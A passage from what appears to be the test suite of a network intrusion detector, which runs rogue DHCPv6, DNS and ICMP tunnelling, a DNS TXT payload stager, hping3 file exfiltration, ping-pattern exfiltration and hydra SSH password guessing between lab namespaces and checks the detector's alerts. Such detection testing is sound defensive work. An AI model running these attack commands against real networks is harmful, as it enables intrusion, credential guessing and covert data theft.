                "--script",
                "broadcast-dhcp6-discover",
              ]);
            }
          } finally {
            await server.stop("SIGINT");
          }
          assert.match(server.output(), /Sent DHCP6 Advertise/);
        });
        assertAlert(seen, {
          kind: "dhcp_spoof",
          attacker: attackerLinkLocal,
          victim: victimLinkLocal,
          technique: "T1557.003",
        });
      },
    );

    await t.step(
      "fake_dhcps6 with a global range beside the link's DHCPv6 server (dnsmasq): another /64, and itself the DNS server",
      async () => {
        const attackerLinkLocal = await linkLocalOf(
          pair.attackerNs,
          pair.attackerIface,
        );
        const leases = await Deno.makeTempFile({ suffix: ".leases" });
        // nmap's DHCPv6 client solicits until `server` has answered (`sent`
        // in its output), at most five times.
        const solicitUntil = async (server: NsProcess, sent: string) => {
          for (let i = 0; i < 5 && !server.output().includes(sent); i++) {
            await run(pair.victimNs, [
              "nmap",
              "-6",
              "-e",
              pair.victimIface,
              "--script",
              "broadcast-dhcp6-discover",
            ]);
          }
          assert.ok(server.output().includes(sent), server.output());
        };
        let dnsmasq: NsProcess | undefined;
        let rogue: NsProcess | undefined;
        try {
          const seen = await capture(pair, async () => {
            try {
              // The link's DHCPv6 server, on the router's NIC: fd00:77::/64.
              dnsmasq = startInNs(pair.attackerNs, [
                "dnsmasq",
                "--no-daemon",
                "--conf-file=/dev/null",
                "--port=0",
                `--interface=${routerIface}`,
                "--bind-interfaces",
                "--dhcp-range=fd00:77::100,fd00:77::1ff,64,1h",
                "--dhcp-option=option6:dns-server,[fd00:77::fc]",
                `--dhcp-leasefile=${leases}`,
                "--pid-file=",
                "--log-facility=-",
                "--log-dhcp",
              ]);
              await dnsmasq.waitFor("DHCPv6, IP range", READY_TIMEOUT_MS);
              await solicitUntil(dnsmasq, "DHCPADVERTISE");
              rogue = startInNs(pair.attackerNs, [
                "stdbuf",
                "-oL",
                "atk6-fake_dhcps6",
                pair.attackerIface,
                "fd00:bad::/64",
                attackerLinkLocal,
              ]);
              await rogue.waitFor("Starting to fake", READY_TIMEOUT_MS);
              await solicitUntil(rogue, "Sent DHCP6 Advertise");
            } finally {
              await stopAll([rogue, dnsmasq]);
            }
          });
          // The victim: the address the rogue offered nmap's client, in
          // RFC 5952 text (fake_dhcps6 does not shorten the longest run).
          const printed = /\(offer: (\S+)\)/.exec(rogue!.output())![1]!;
          const offered = new URL(`http://[${printed}]/`).hostname.slice(1, -1);
          assert.match(offered, /^fd00:bad:/);
          assertAlert(seen, {
            kind: "dhcp_spoof",
            attacker: attackerLinkLocal,
            victim: offered,
            technique: "T1557.003",
          });
        } finally {
          await Deno.remove(leases);
        }
      },
    );

    // iodine to an iodined on the victim, with `flags`, and `pings` echo
    // requests through the tunnel once it is up.
    const iodine = (flags: string[], pings: number) => {
      const password = "netmirror-test";
      const domain = "t.test";
      let server: NsProcess | undefined;
      let client: NsProcess | undefined;
      return capture(pair, async () => {
        try {
          server = startInNs(pair.victimNs, [
            "iodined",
            "-f",
            "-c",
            "-P",
            password,
            "10.99.0.1",
            domain,
          ]);
          await server.waitFor("Listening to dns", READY_TIMEOUT_MS);
          client = startInNs(pair.attackerNs, [
            "iodine",
            "-f",
            ...flags,
            "-P",
            password,
            VICTIM,
            domain,
          ]);
          await client.waitFor("Connection setup complete", READY_TIMEOUT_MS);
          await run(pair.attackerNs, [
            "ping",
            "-c",
            String(pings),
            "-i",
            "0.2",
            "-w",
            "5",
            "10.99.0.1",
          ], () => {});
        } finally {
          await stopAll([client, server]);
        }
      });
    };

    await t.step(
      "iodine -r: a DNS tunnel in DNS queries to an iodined on the victim",
      async () => {
        // -r: through DNS queries only, never raw UDP to the server; a
        // little data (lazy mode answers slowly).
        const seen = await iodine(["-r"], 2);
        assertAlert(seen, {
          kind: "dns_tunnel",
          attacker: ATTACKER,
          victim: VICTIM,
          technique: "T1071.004",
        });
      },
    );

    await t.step(
      "iodine: raw mode, its own protocol on the victim's UDP port 53",
      async () => {
        // By default iodine finds the server reachable after four NULL
        // queries and sends the rest as raw UDP to port 53: 15 pings and
        // their answers are 30 datagrams that are not DNS.
        const seen = await iodine([], 15);
        assertAlert(seen, {
          kind: "dns_tunnel",
          attacker: ATTACKER,
          victim: VICTIM,
          technique: "T1571",
        });
      },
    );

    await t.step(
      "dig: a stager on the victim fetching a payload in TXT answers from dnsmasq",
      async () => {
        // dnsmasq on the attacker's address serves 16 base64 chunks of 255
        // characters as TXT records of 0.cdn.stage.test … 15.cdn.stage.test;
        // the victim asks for each in turn (as a PowerShell download cradle
        // over nslookup does). The names are short and plain: only the
        // answers carry the payload.
        const chunks = Array.from({ length: 16 }, (_, i) => {
          const bytes = Uint8Array.from(
            { length: 192 },
            (_, j) => (i * 192 + j) * 31,
          );
          return btoa(String.fromCharCode(...bytes)).slice(0, 255);
        });
        const name = (i: number) => `${i}.cdn.stage.test`;
        let dnsmasq: NsProcess | undefined;
        const seen = await capture(pair, async () => {
          try {
            dnsmasq = startInNs(pair.attackerNs, [
              ...DNS_SERVER,
              `--listen-address=${ATTACKER}`,
              ...chunks.map((chunk, i) => `--txt-record=${name(i)},${chunk}`),
            ]);
            await dnsmasq.waitFor("started", READY_TIMEOUT_MS);
            await run(pair.victimNs, [
              "dig",
              `@${ATTACKER}`,
              "+short",
              "+tries=1",
              "+time=2",
              ...chunks.flatMap((_, i) => ["TXT", name(i)]),
            ]);
          } finally {
            await stopAll([dnsmasq]);
          }
        });
        assertAlert(seen, {
          kind: "dns_tunnel",
          attacker: VICTIM,
          victim: ATTACKER,
          technique: "T1071.004",
        });
      },
    );

    await t.step(
      "ptunnel: a TCP session through an ICMP tunnel to a proxy on the victim",
      async () => {
        // The attacker's ptunnel carries curl's HTTP request to the victim's
        // web server in echo requests; the victim's ptunnel answers with
        // echo replies of the response (its kernel echoes each request too,
        // with the request's data).
        const password = "netmirror-test";
        let proxy: NsProcess | undefined;
        let client: NsProcess | undefined;
        const seen = await capture(pair, async () => {
          try {
            // stdbuf: ptunnel's messages are stdio, buffered in a pipe.
            proxy = startInNs(pair.victimNs, [
              "stdbuf",
              "-oL",
              "ptunnel",
              "-x",
              password,
            ]);
            await proxy.waitFor("Ping proxy is listening", READY_TIMEOUT_MS);
            client = startInNs(pair.attackerNs, [
              "stdbuf",
              "-oL",
              "ptunnel",
              "-p",
              VICTIM,
              "-lp",
              "8000",
              "-da",
              VICTIM,
              "-dp",
              String(HTTP_PORT),
              "-x",
              password,
            ]);
            await client.waitFor("Relaying packets", READY_TIMEOUT_MS);
            await withHttpPeer(pair, () =>
              run(pair.attackerNs, [
                "curl",
                "-sS",
                "--max-time",
                "10",
                "-o",
                "/dev/null",
                // 20 kB down: some twenty replies of ptunnel's own.
                "http://127.0.0.1:8000/bytes/20000",
              ]));
          } finally {
            await stopAll([client, proxy]);
          }
        });
        assertAlert(seen, ICMP_TUNNEL_ALERT);
      },
    );

    await t.step(
      "hping3 -1 -E: a file sent out in echo requests, which the victim's kernel echoes",
      async () => {
        // Every reply equals its request; the requests' data changes.
        const seen = await attack(pair, [
          "hping3",
          "-1",
          "-E",
          "/etc/services",
          "-d",
          "200",
          "-c",
          "30",
          "-i",
          "u20000",
          "-q",
          VICTIM,
        ], (_success, stderr) => {
          assert.match(stderr, /30 packets transmitted/);
        });
        assertAlert(seen, ICMP_TUNNEL_ALERT);
      },
    );

    await t.step(
      "ping -p in a loop: data in pings' patterns, a new ping for each piece",
      async () => {
        // 16 bytes a ping, as `xxd -p -c 16 file | while read p; do ping
        // -c 1 -p $p …` sends them: each ping a new identifier.
        const patterns = Array.from(
          { length: 20 },
          (_, i) => (0x1000 + i * 7919).toString(16).padStart(8, "0"),
        );
        const loop = patterns.map((pattern) =>
          `ping -c 1 -W 1 -p ${pattern} ${VICTIM} >/dev/null`
        ).join("; ");
        const seen = await attack(pair, ["sh", "-c", loop]);
        assertAlert(seen, ICMP_TUNNEL_ALERT);
      },
    );

    await t.step(
      "ping: two pings at once, of different sizes and one with a pattern, raise nothing",
      async () => {
        const ping = (options: string[]) =>
          run(pair.attackerNs, [
            "ping",
            ...options,
            "-c",
            "60",
            "-i",
            "0.02",
            VICTIM,
          ]);
        const seen = await capture(pair, async () => {
          await Promise.all([
            ping([]),
            ping(["-s", "1200", "-p", "c0ffee"]),
          ]);
        });
        assert.deepEqual(seen.alerts, []);
        assert.ok(seen.icmpv4 >= 240, `${seen.icmpv4} ICMP packets`);
      },
    );

    await t.step(
      "hydra ssh: password guessing at sshd on the victim; ssh logins with a key raise nothing",
      async () => {
        // sshd with a host key of its own, taking root's password (which no
        // guess here is), and room for hydra's 32 tasks at once (the
        // default MaxStartups drops unauthenticated connections beyond 10).
        const dir = await Deno.makeTempDir({ prefix: "netmirror_sshd_" });
        let sshd: NsProcess | undefined;
        try {
          await Deno.mkdir("/run/sshd", { recursive: true });
          for (const key of ["host", "client"]) {
            await run(pair.victimNs, [
              "ssh-keygen",
              "-q",
              "-t",
              "ed25519",
              "-N",
              "",
              "-f",
              `${dir}/${key}`,
            ]);
          }
          await Deno.copyFile(`${dir}/client.pub`, `${dir}/authorized_keys`);
          await Deno.writeTextFile(
            `${dir}/sshd_config`,
            [
              `ListenAddress ${VICTIM}`,
              `HostKey ${dir}/host`,
              `AuthorizedKeysFile ${dir}/authorized_keys`,
              "PermitRootLogin yes",
              "PasswordAuthentication yes",
              "KbdInteractiveAuthentication no",
              "UsePAM no",
              "StrictModes no",
              "MaxStartups 100",
              `PidFile ${dir}/sshd.pid`,
            ].join("\n") + "\n",
          );
          await Deno.writeTextFile(
            `${dir}/passwords`,
            Array.from({ length: 64 }, (_, i) => `guess-${i}\n`).join(""),
          );
          sshd = startInNs(pair.victimNs, [
            "/usr/sbin/sshd",
            "-D",
            "-e",
            "-f",
            `${dir}/sshd_config`,
          ]);
          await sshd.waitFor("Server listening", READY_TIMEOUT_MS);
          // 64 passwords in 32 tasks: a connection a task (and hydra's
          // first, which checks the service), two guesses each; -w 5: hydra
          // waits 5 s, not 32, for a task's last answer.
          const seen = await attack(pair, [
            "hydra",
            "-l",
            "root",
            "-P",
            `${dir}/passwords`,
            "-t",
            "32",
            "-w",
            "5",
            "-I",
            `ssh://${VICTIM}`,
          ], (success, stderr) => assert.ok(success, stderr));
          assertAlert(seen, {
            kind: "brute_force",
            attacker: ATTACKER,
            victim: VICTIM,
            technique: "T1110.001",
          });
          // Ten logins that succeed, one after another: a person's or a
          // script's, far below a guesser's count.
          const logins = await capture(pair, async () => {
            for (let i = 0; i < 10; i++) {
              await run(pair.attackerNs, [
                "ssh",
                "-i",
                `${dir}/client`,
                "-o",
                "BatchMode=yes",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "ConnectTimeout=10",
                `root@${VICTIM}`,
                "true",
              ]);
            }
          });
          assert.deepEqual(logins.alerts, []);
          assert.ok(
            logins.kernelPackets > 200,
            `${logins.kernelPackets} packets`,
          );
        } finally {
          await stopAll([sshd]);
          await Deno.remove(dir, { recursive: true });
        }
      },
    );

    // The last two steps share a web server on the victim and a
    // configuration in which only the attacker is home (so the victim is an
    // outside host) and 2 MB a window is data exfiltration.
    const dir = await Deno.makeTempDir({ prefix: "netmirror_live_" });
    try {
      const config = `${dir}/netmirror.json`;
      await Deno.writeTextFile(
        config,
        JSON.stringify({
          homeNet: [`${ATTACKER}/32`],
          detectors: { dataExfil: { exfilMinBytes: 2_000_000 } },
        }),
      );
      const web = `http://${VICTIM}:${HTTP_PORT}`;

      await t.step(
        "curl: an upload from the home network to an outside host",
        async () => {
          const upload = `${dir}/upload.bin`;
          await Deno.writeFile(upload, new Uint8Array(3_000_000));
          const seen = await capture(
            pair,
            () =>
              withHttpPeer(pair, () =>
                run(pair.attackerNs, [
                  "curl",
                  "-sS",
                  "--max-time",
                  "20",
                  "--data-binary",
                  `@${upload}`,
                  `${web}/upload`,
                ])),
            config,
          );
          assertAlert(seen, {
            kind: "data_exfil",
            attacker: ATTACKER,
            victim: VICTIM,
            technique: "T1048",
          });
        },
      );

      await t.step(
        "curl and ping: ordinary traffic raises nothing",
        async () => {
          const seen = await capture(
            pair,
            () =>
              withHttpPeer(pair, async () => {
                // 50 connections to one web server, each answered.
                await run(pair.attackerNs, [
                  "curl",
                  "-sS",
                  "--max-time",
                  "20",
                  "-H",
                  "Connection: close",
                  "-o",
                  "/dev/null",
                  `${web}/bytes/[1-50]`,
                ]);
                // 20 MB down: a download, not exfiltration.
                await run(pair.attackerNs, [
                  "curl",
                  "-sS",
                  "--max-time",
                  "20",
                  "-o",
                  "/dev/null",
                  `${web}/bytes/20000000`,
                ]);
                await run(pair.attackerNs, [
                  "ping",
                  "-c",
                  "5",
                  "-i",
                  "0.2",
                  VICTIM,
                ]);
              }),
            config,
          );
          assert.deepEqual(seen.alerts, []);
          assert.equal(seen.kernelDrops, 0, "tcpdump dropped packets");
          assert.ok(seen.kernelPackets > 100, `${seen.kernelPackets} packets`);
        },
      );
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  } finally {
    await pair.close();
  }
});

/** The link-local IPv6 address of `iface` in namespace `ns`. */
async function linkLocalOf(ns: string, iface: string): Promise<string> {
  const out = await new Deno.Command("ip", {
    args: ["-n", ns, "-6", "-o", "addr", "show", "dev", iface, "scope", "link"],
    stdout: "piped",
  }).output();
  const text = new TextDecoder().decode(out.stdout);
  const match = /inet6 (fe80:[0-9a-f:]+)\//.exec(text);
  if (match === null) {
    throw new Error(`no link-local address on ${iface}: ${text}`);
  }
  return match[1]!;
}
